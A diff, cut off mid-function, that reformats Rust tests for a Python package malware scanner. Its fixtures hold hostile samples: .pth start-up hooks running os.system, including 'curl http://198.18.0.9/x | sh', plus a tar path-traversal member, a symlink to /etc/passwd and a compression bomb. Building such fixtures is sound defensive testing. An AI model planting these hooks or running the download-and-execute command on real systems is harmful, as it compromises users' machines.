@@ -8,7 +8,8 @@ use crate::common::{pysbx, repo, stderr, write};
 fn make_wheel(path: &Path, members: &[(&str, &[u8])]) {
     let file = std::fs::File::create(path).unwrap();
     let mut zip = zip::ZipWriter::new(file);
-    let opts = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Deflated);
+    let opts = zip::write::SimpleFileOptions::default()
+        .compression_method(zip::CompressionMethod::Deflated);
     for (name, bytes) in members {
         zip.start_file(*name, opts).unwrap();
         zip.write_all(bytes).unwrap();
@@ -17,7 +18,10 @@ fn make_wheel(path: &Path, members: &[(&str, &[u8])]) {
 }
 
 fn make_sdist(path: &Path, regular: &[(&str, &[u8])], symlinks: &[(&str, &str)]) {
-    let gz = flate2::write::GzEncoder::new(std::fs::File::create(path).unwrap(), flate2::Compression::default());
+    let gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(path).unwrap(),
+        flate2::Compression::default(),
+    );
     let mut builder = tar::Builder::new(gz);
     for (name, target) in symlinks {
         let mut header = tar::Header::new_gnu();
@@ -40,7 +44,8 @@ fn make_sdist(path: &Path, regular: &[(&str, &[u8])], symlinks: &[(&str, &str)])
 }
 
 fn json(out: &std::process::Output) -> serde_json::Value {
-    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
+    serde_json::from_slice(&out.stdout)
+        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stdout)))
 }
 
 #[test]
@@ -54,16 +59,25 @@ fn wheel_members_are_scanned_in_memory_with_archive_paths() {
             ("evil.pth", b"/some/path\nimport os; os.system('id')\n"),
         ],
     );
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "evil-1.0-py3-none-any.whl"]).output().unwrap();
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "evil-1.0-py3-none-any.whl"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
     let doc = json(&out);
     let findings = doc["findings"].as_array().unwrap();
     assert!(
-        findings.iter().any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil/__init__.py" && f["rule_id"] == "PSB201"),
+        findings.iter().any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil/__init__.py"
+            && f["rule_id"] == "PSB201"),
         "{doc}"
     );
     // The .pth line that Python executes at start-up is scanned at its own line number.
-    assert!(findings.iter().any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil.pth" && f["line"] == 2), "{doc}");
+    assert!(
+        findings
+            .iter()
+            .any(|f| f["path"] == "evil-1.0-py3-none-any.whl!/evil.pth" && f["line"] == 2),
+        "{doc}"
+    );
     // Nothing was extracted.
     assert!(!dir.path().join("evil").exists());
     assert_eq!(doc["stats"]["audit_mode"], true, "archives are audited");
@@ -73,9 +87,13 @@ fn wheel_members_are_scanned_in_memory_with_archive_paths() {
 fn archive_sarif_locations_are_valid_uris() {
     let dir = repo();
     make_wheel(&dir.path().join("p-1.0-py3-none-any.whl"), &[("p/m.py", b"eval(x)\n")]);
-    let out = pysbx(dir.path()).args(["scan", "--format", "sarif", "p-1.0-py3-none-any.whl"]).output().unwrap();
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "sarif", "p-1.0-py3-none-any.whl"])
+        .output()
+        .unwrap();
     let doc = json(&out);
-    let uri = doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
+    let uri = doc["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]
+        ["uri"]
         .as_str()
         .unwrap()
         .to_string();
@@ -89,19 +107,30 @@ fn sdist_dotdot_and_symlink_members_are_reported_not_followed() {
     let sdist = dir.path().join("bad-1.0.tar.gz");
     make_sdist(
         &sdist,
-        &[("bad-1.0/setup.py", b"import os\nos.system('x')\n"), ("bad-1.0/../../escape.py", b"x = 1\n")],
+        &[
+            ("bad-1.0/setup.py", b"import os\nos.system('x')\n"),
+            ("bad-1.0/../../escape.py", b"x = 1\n"),
+        ],
         &[("bad-1.0/link.py", "/etc/passwd")],
     );
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "bad-1.0.tar.gz"]).output().unwrap();
+    let out =
+        pysbx(dir.path()).args(["scan", "--format", "json", "bad-1.0.tar.gz"]).output().unwrap();
     let doc = json(&out);
     let errors = doc["errors"].as_array().unwrap();
     assert!(errors.iter().any(|e| e["path"] == "bad-1.0.tar.gz!/bad-1.0/link.py"), "{doc}");
     assert!(errors.iter().any(|e| e["path"].as_str().unwrap().contains("escape.py")), "{doc}");
     assert!(
-        doc["findings"].as_array().unwrap().iter().any(|f| f["path"] == "bad-1.0.tar.gz!/bad-1.0/setup.py"),
+        doc["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["path"] == "bad-1.0.tar.gz!/bad-1.0/setup.py"),
         "{doc}"
     );
-    assert!(!dir.path().join("escape.py").exists() && !dir.path().parent().unwrap().join("escape.py").exists());
+    assert!(
+        !dir.path().join("escape.py").exists()
+            && !dir.path().parent().unwrap().join("escape.py").exists()
+    );
 }
 
 #[test]
@@ -109,11 +138,21 @@ fn compression_bomb_is_abandoned_with_an_error() {
     let dir = repo();
     // Three members of 20 MiB that compress to a few KiB each: past the ratio limit at once.
     let blank = vec![b' '; 20 << 20];
-    make_wheel(&dir.path().join("bomb-1.0-py3-none-any.whl"), &[("a.py", &blank), ("b.py", &blank), ("c.py", &blank)]);
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "bomb-1.0-py3-none-any.whl"]).output().unwrap();
+    make_wheel(
+        &dir.path().join("bomb-1.0-py3-none-any.whl"),
+        &[("a.py", &blank), ("b.py", &blank), ("c.py", &blank)],
+    );
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "bomb-1.0-py3-none-any.whl"])
+        .output()
+        .unwrap();
     let doc = json(&out);
     assert!(
-        doc["errors"].as_array().unwrap().iter().any(|e| e["message"].as_str().unwrap().contains("compression")),
+        doc["errors"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|e| e["message"].as_str().unwrap().contains("compression")),
         "{doc}"
     );
 }
@@ -122,7 +161,10 @@ fn compression_bomb_is_abandoned_with_an_error() {
 fn oversized_file_is_reported_not_skipped_silently() {
     let dir = repo();
     write(dir.path(), "big.py", vec![b'#'; 2 << 20]);
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "--max-file-size", "1", "big.py"]).output().unwrap();
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "--max-file-size", "1", "big.py"])
+        .output()
+        .unwrap();
     let doc = json(&out);
     assert_eq!(doc["errors"][0]["kind"], "too-large", "{doc}");
     assert_eq!(out.status.code(), Some(1));
@@ -132,7 +174,8 @@ fn oversized_file_is_reported_not_skipped_silently() {
 fn baseline_hides_known_findings_and_reports_new_ones() {
     let dir = repo();
     write(dir.path(), "a.py", "import os\nos.system('a')\n");
-    let out = pysbx(dir.path()).args(["scan", "--write-baseline", "base.json", "a.py"]).output().unwrap();
+    let out =
+        pysbx(dir.path()).args(["scan", "--write-baseline", "base.json", "a.py"]).output().unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     // Unchanged.
     let out = pysbx(dir.path()).args(["scan", "--baseline", "base.json", "a.py"]).output().unwrap();
@@ -143,7 +186,10 @@ fn baseline_hides_known_findings_and_reports_new_ones() {
     assert_eq!(out.status.code(), Some(0));
     // Duplicated: the second copy is new.
     write(dir.path(), "a.py", "import os\nos.system('a')\nos.system('a')\n");
-    let out = pysbx(dir.path()).args(["scan", "--format", "json", "--baseline", "base.json", "a.py"]).output().unwrap();
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "--baseline", "base.json", "a.py"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(1));
     let doc = json(&out);
     assert_eq!(doc["findings"].as_array().unwrap().len(), 1, "{doc}");
@@ -162,16 +208,29 @@ fn shards_partition_the_input_and_merge_back() {
     let mut total = 0;
     for i in 1..=3 {
         let out = pysbx(dir.path())
-            .args(["scan", "--format", "json", "-o", &format!("s{i}.json"), "--shard", &format!("{i}/3"), "."])
+            .args([
+                "scan",
+                "--format",
+                "json",
+                "-o",
+                &format!("s{i}.json"),
+                "--shard",
+                &format!("{i}/3"),
+                ".",
+            ])
             .output()
             .unwrap();
         assert_ne!(out.status.code(), Some(2), "{}", stderr(&out));
         let doc: serde_json::Value =
-            serde_json::from_slice(&std::fs::read(dir.path().join(format!("s{i}.json"))).unwrap()).unwrap();
+            serde_json::from_slice(&std::fs::read(dir.path().join(format!("s{i}.json"))).unwrap())
+                .unwrap();
         total += doc["findings"].as_array().unwrap().len();
     }
     assert_eq!(total, 30, "every file in exactly one shard");
-    let out = pysbx(dir.path()).args(["merge", "s1.json", "s2.json", "s3.json", "s1.json"]).output().unwrap();
+    let out = pysbx(dir.path())
+        .args(["merge", "s1.json", "s2.json", "s3.json", "s1.json"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     let merged = json(&out);
     assert_eq!(merged["findings"].as_array().unwrap().len(), 30, "duplicates removed");
@@ -185,12 +244,24 @@ fn site_packages_summary_ranks_the_malicious_distribution_first() {
     let site = "venv/lib/python3.11/site-packages";
     // A benign library with one audit-level finding.
     write(dir.path(), &format!("{site}/calm/__init__.py"), "import subprocess\n");
-    write(dir.path(), &format!("{site}/calm-2.0.dist-info/RECORD"), "calm/__init__.py,,\ncalm-2.0.dist-info/RECORD,,\n");
+    write(
+        dir.path(),
+        &format!("{site}/calm-2.0.dist-info/RECORD"),
+        "calm/__init__.py,,\ncalm-2.0.dist-info/RECORD,,\n",
+    );
     // A library with a real but ordinary capability.
-    write(dir.path(), &format!("{site}/fetcher/net.py"), "import urllib.request\nurllib.request.urlopen(u)\n");
+    write(
+        dir.path(),
+        &format!("{site}/fetcher/net.py"),
+        "import urllib.request\nurllib.request.urlopen(u)\n",
+    );
     write(dir.path(), &format!("{site}/fetcher-1.1.dist-info/RECORD"), "fetcher/net.py,,\n");
     // The malicious one: a start-up hook and a decoded payload.
-    write(dir.path(), &format!("{site}/evil_init.pth"), "import os; os.system('curl http://198.18.0.9/x | sh')\n");
+    write(
+        dir.path(),
+        &format!("{site}/evil_init.pth"),
+        "import os; os.system('curl http://198.18.0.9/x | sh')\n",
+    );
     write(
         dir.path(),
         &format!("{site}/evilpkg/__init__.py"),
